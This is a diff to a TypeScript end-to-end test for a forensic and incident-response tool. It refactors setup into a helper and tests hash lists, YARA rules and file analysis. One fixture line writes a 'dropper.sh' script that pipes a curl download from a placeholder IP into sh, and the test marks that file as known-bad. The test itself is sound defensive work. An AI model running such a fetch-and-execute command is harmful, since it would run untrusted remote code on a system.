@@ -1,50 +1,23 @@
-import { type ChildProcess, spawn, spawnSync } from "node:child_process";
+import { spawnSync } from "node:child_process";
 import { createHash } from "node:crypto";
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
+import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { createVaultClient, type VaultClient } from "@custody/client";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { LiveBench } from "./support/live-e2e.ts";
 
 // The hash lists and `analyze`, every part a real process: `custody serve`, an enrolled agent running
 // `custody agent run` with YARA rules in its local policy, `custody hashlist` and `custody live run`.
-const BIN = join(import.meta.dirname, "..", "packages", "cli", "dist", "bin.js");
-const work = mkdtempSync(join(tmpdir(), "custody-analyze-"));
-const vault = join(work, "vault");
+const bench = new LiveBench();
+const { work } = bench;
 const CASE = "IR-2026-14";
-const children: ChildProcess[] = [];
 const files = join(work, "device-files");
 const HAS_YARA = spawnSync("yara", ["--version"]).status === 0;
-let url = "";
-let alice: VaultClient;
 let deviceId = "";
 
-function custody(args: string[]) {
-  const result = spawnSync(process.execPath, [BIN, ...args], {
-    cwd: work,
-    env: { ...process.env, CUSTODY_VAULT: vault },
-    encoding: "utf8",
-  });
-  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
-}
-
-function start(args: string[], ready: RegExp): Promise<ChildProcess> {
-  const child = spawn(process.execPath, [BIN, ...args], { cwd: work, stdio: ["ignore", "pipe", "pipe"] });
-  children.push(child);
-  let output = "";
-  return new Promise((resolve, reject) => {
-    const seen = (chunk: Buffer) => {
-      output += chunk.toString();
-      if (ready.test(output)) resolve(child);
-    };
-    child.stdout?.on("data", seen);
-    child.stderr?.on("data", seen);
-    child.once("exit", (code) => reject(new Error(`${args[0]} exited ${code}: ${output}`)));
-  });
-}
-
+const custody = (args: string[]) => bench.custody(args);
+const alice = () => bench.custodian();
 const sha256 = (path: string) => createHash("sha256").update(readFileSync(path)).digest("hex");
-const as = (who: string) => ["--server", url, "--identity", join(work, `${who}.pem`)];
+const as = (who: string) => bench.as(who);
 
 function analyze(path: string): Record<string, unknown> {
   const ran = custody([
@@ -65,7 +38,7 @@ function analyze(path: string): Record<string, unknown> {
 }
 
 beforeAll(async () => {
-  expect(custody(["init", "--name", "alice", "--identity-out", join(work, "alice.pem")]).code).toBe(0);
+  bench.init();
   mkdirSync(files);
   writeFileSync(join(files, "dropper.sh"), "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n");
   writeFileSync(join(files, "tool.sh"), "#!/bin/sh\necho a tool the SOC knows\n");
@@ -85,57 +58,21 @@ beforeAll(async () => {
   ]);
   expect(bad.code, bad.stderr).toBe(0);
   expect(bad.stdout).toContain(`${sha256(join(files, "dropper.sh"))} on known-bad`);
-  await start(["serve", "--vault", vault, "--listen", "127.0.0.1:0", "--name", "127.0.0.1"], /listening on/);
-  url = (JSON.parse(readFileSync(join(vault, "server.json"), "utf8")) as { urls: string[] }).urls[0] ?? "";
-  alice = createVaultClient({ baseUrl: url, identityPem: readFileSync(join(work, "alice.pem"), "utf8") });
-  writeFileSync(join(work, "rita.pem"), (await alice.issueIdentity("rita", "person")).identityPem, {
-    mode: 0o600,
-  });
-  await alice.setLiveResponse(true);
-  const { token } = await alice.createEnrollmentToken({ caseId: CASE });
-  writeFileSync(join(work, "ca.pem"), readFileSync(join(vault, "pki", "ca.pem")));
-  const enrolled = custody([
-    "agent",
-    "enroll",
-    "--server",
-    url,
-    "--token",
-    token,
-    "--dir",
-    "agent",
-    "--ca",
-    "ca.pem",
-    "--json",
-  ]);
-  expect(enrolled.code, enrolled.stderr).toBe(0);
-  deviceId = (JSON.parse(enrolled.stdout) as { deviceId: string }).deviceId;
+  await bench.serve(["rita"], CASE);
+  deviceId = bench.deviceId;
   mkdirSync(join(work, "rules"));
   writeFileSync(
     join(work, "rules", "test.yar"),
     'rule custody_test_marker { strings: $a = "CUSTODY_TEST_MARKER_7731" condition: $a }\n',
   );
-  const policy = { ...JSON.parse(custody(["agent", "policy"]).stdout), yaraRules: join(work, "rules") };
-  writeFileSync(join(work, "policy.json"), JSON.stringify(policy), { mode: 0o600 });
-  await start(
-    ["agent", "run", "--dir", join(work, "agent"), "--policy", join(work, "policy.json")],
-    /welcome|connected|agent starting/,
-  );
-  for (let i = 0; i < 600; i++) {
-    const device = (await alice.listDevices()).find((d) => d.deviceId === deviceId);
-    if (device?.online) break;
-    await new Promise((resolve) => setTimeout(resolve, 50));
-  }
+  bench.amendPolicy({ yaraRules: join(work, "rules") });
+  await bench.startAgent();
   for (const scope of [`device:${deviceId}`, `case:${CASE}`])
-    await alice.grant({ name: "rita", role: "responder", scope });
+    await alice().grant({ name: "rita", role: "responder", scope });
 }, 180_000);
 
 afterAll(async () => {
-  alice?.close();
-  for (const child of children.reverse()) {
-    child.kill("SIGTERM");
-    if (child.exitCode === null) await new Promise((resolve) => child.once("exit", resolve));
-  }
-  rmSync(work, { recursive: true, force: true });
+  await bench.close();
 });
 
 describe("hash lists", () => {
@@ -170,10 +107,10 @@ describe("hash lists", () => {
     expect(custody(["hashlist", "remove", "known-bad", "b".repeat(64), ...as("alice")]).stderr).toMatch(
       /ERR_NOT_FOUND/,
     );
-    const added = await alice.addHash({ list: "known-bad", sha256: "c".repeat(64), note: "to be removed" });
+    const added = await alice().addHash({ list: "known-bad", sha256: "c".repeat(64), note: "to be removed" });
     expect(added.addedBy).toBe("alice");
-    await alice.removeHash("known-bad", "c".repeat(64));
-    const records = await alice.showAudit();
+    await alice().removeHash("known-bad", "c".repeat(64));
+    const records = await alice().showAudit();
     const facts = records.filter((r) => r.action.startsWith("hashlist.") && r.outcome === "allow");
     expect(facts.map((r) => r.action)).toEqual(
       expect.arrayContaining(["hashlist.added", "hashlist.removed"]),
@@ -181,7 +118,7 @@ describe("hash lists", () => {
     expect(
       records.some((r) => r.action === "hashlist.manage" && r.outcome === "deny" && r.actor === "rita"),
     ).toBe(true);
-    expect((await alice.listHashes("known-bad")).map((e) => e.sha256)).toEqual([
+    expect((await alice().listHashes("known-bad")).map((e) => e.sha256)).toEqual([
       sha256(join(files, "dropper.sh")),
     ]);
   });
@@ -233,7 +170,7 @@ describe("analyze", () => {
   );
 
   it("the verdict is in the command's signed live.result record", async () => {
-    const results = (await alice.showAudit()).filter(
+    const results = (await alice().showAudit()).filter(
       (r) => r.action === "live.result" && String(r.details.line ?? "").startsWith("analyze"),
     );
     expect(results.map((r) => r.details.verdict)).toEqual(
